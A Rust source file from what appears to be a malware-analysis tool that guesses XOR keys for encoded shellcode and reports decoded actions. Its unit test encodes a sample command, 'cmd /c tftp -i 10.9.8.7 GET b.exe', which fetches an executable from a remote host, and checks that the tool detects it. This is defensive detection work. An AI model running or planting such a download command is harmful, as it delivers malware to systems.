//! Keys guessed from known plaintext (`botscope_deobf::shellcode::guess`),
//! kept when the decoded stretch reads as shellcode with actions.

use super::body::analyse;
use super::{ShellcodeFinding, ShellcodeWork};
use botscope_deobf::shellcode::guess::guess_keys;

/// Findings for keys that turn stretches of `p` outside `covered` into
/// shellcode with recognised actions.
pub(super) fn guess(
    p: &[u8],
    covered: &[(usize, usize)],
    work: &mut ShellcodeWork,
) -> Vec<ShellcodeFinding> {
    let mut out = Vec::new();
    for g in guess_keys(p, covered, work) {
        let a = analyse(&g.body, true, true, work);
        if a.actions.is_empty() {
            continue;
        }
        out.push(ShellcodeFinding {
            offset: g.start,
            decoder: g.decoder,
            key: g.key,
            body_len: g.body.len(),
            actions: a.actions,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::instructions::DownloadInstruction;
    use crate::shellcode::{DecoderKind, ShellAction};

    #[test]
    fn a_guess_is_kept_only_when_its_stretch_has_actions() {
        let key = [0x11u8, 0x22, 0x33, 0x44];
        let enc = |text: &[u8]| -> Vec<u8> {
            let mut p = vec![0x90u8; 40];
            p.extend(text.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
            p
        };
        let got = guess(
            &enc(b"cmd /c tftp -i 10.9.8.7 GET b.exe\0"),
            &[],
            &mut ShellcodeWork::default(),
        );
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].decoder, DecoderKind::GuessedXorDword);
        assert_eq!(
            got[0].actions,
            vec![ShellAction::Download(DownloadInstruction::Tftp {
                host: "10.9.8.7".into(),
                file: "b.exe".into(),
            })]
        );
        // `cmd.exe` decodes under the key, but asks for nothing.
        assert!(guess(
            &enc(b"run cmd.exe now\0"),
            &[],
            &mut ShellcodeWork::default()
        )
        .is_empty());
    }
}
